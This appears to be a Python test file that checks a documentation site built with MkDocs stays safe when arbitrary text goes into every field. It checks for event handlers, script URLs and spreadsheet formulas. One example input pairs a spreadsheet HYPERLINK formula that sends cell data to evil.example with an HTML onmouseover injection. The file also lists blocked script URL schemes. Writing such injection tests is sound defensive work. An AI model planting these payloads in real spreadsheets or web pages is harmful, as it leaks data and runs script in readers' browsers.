"""The same property on the built site: arbitrary text in every text field the schema declares,
built with MkDocs and Material, our overrides included, so that what the theme prints (the site's
name, page titles, the nav) is checked too. Every page of the built site is compared with the
same plan holding a plain word: the same elements, no handler, no script address, the text as
typed; and no workbook holds a formula."""

import logging
import os
from collections import Counter
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings

from plansite import build
from plansite.site import serving
from plansite.tools.bench_build import config_in
from tests.test_ledger_bounds import no_formulas
from tests.test_text_is_text import (
    MKDOCS_YML,
    SYNTAX,
    TEXTS,
    URL_ATTRIBUTES,
    Elements,
    QuotingDumper,
    with_text,
    words,
)

pytestmark = pytest.mark.site
SCRIPT_ADDRESS = ("javascript:", "data:", "vbscript:")


def built(data: dict, work: Path) -> tuple[dict[str, Elements], dict[str, bytes]]:
    """Every page of the site ``data`` builds (MkDocs --strict, Material), parsed, and its workbooks."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    work.mkdir()
    file = work / "plan.yaml"
    file.write_text(yaml.dump(data, Dumper=QuotingDumper, allow_unicode=True, sort_keys=False), encoding="utf-8")
    output = build.build(file, MKDOCS_YML, "plan.yaml")
    for path, content in output.files.items():
        (work / "docs" / path).parent.mkdir(parents=True, exist_ok=True)
        (work / "docs" / path).write_bytes(content)
    logging.getLogger("mkdocs").setLevel(logging.WARNING)
    mkdocs_build(load_config(config_file=str(config_in(work)), strict=True))
    # No inline script but the theme's: what make site would refuse to publish (ForeignScript).
    serving.policy(work / "site")
    pages = {}
    for page in sorted((work / "site").rglob("*.html")):
        parser = Elements()
        parser.feed(page.read_text(encoding="utf-8"))
        parser.feed("")
        pages[str(page.relative_to(work / "site"))] = parser
    workbooks = {path: content for path, content in output.files.items() if path.endswith(".xlsx")}
    return pages, workbooks


BASELINE: dict[str, Elements] = {}


@settings(
    max_examples=int(os.environ.get("PLAN_TEXT_SITE_EXAMPLES", "10")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(typed=TEXTS)
@example(typed="".join(SYNTAX[:5]))
@example(typed="".join(SYNTAX[5:18]))
@example(typed="".join(SYNTAX[18:]))
@example(typed='=HYPERLINK("https://evil.example/?"&A1,"点此")<b onmouseover=alert(1)>x</b>')
def test_any_text_in_any_field_reaches_the_reader_of_the_built_site_as_typed(typed, tmp_path_factory):
    folder = tmp_path_factory.mktemp("site")
    if not BASELINE:
        BASELINE.update(built(with_text("甲"), folder / "baseline")[0])
    pages, workbooks = built(with_text(typed), folder / "typed")
    assert pages.keys() == BASELINE.keys()
    for path, page in pages.items():
        plain = BASELINE[path]
        assert Counter(page.tags) == Counter(plain.tags), path
        handlers = {name for name, _ in page.attributes if name.startswith("on")}
        assert handlers <= {name for name, _ in plain.attributes if name.startswith("on")}, path
        addresses = [value.strip().lower() for name, value in page.attributes if name in URL_ATTRIBUTES]
        assert not [value for value in addresses if value.startswith(SCRIPT_ADDRESS)], path
        shown, whole = words("".join(page.text)), words(typed)
        shortened = sum(shown.count(whole[:length] + "…") for length in range(1, len(whole)))
        assert shown.count(whole) + shortened >= words("".join(plain.text)).count("甲"), path
    assert workbooks and {path: no_formulas(content) for path, content in workbooks.items()} == {
        path: [] for path in workbooks
    }
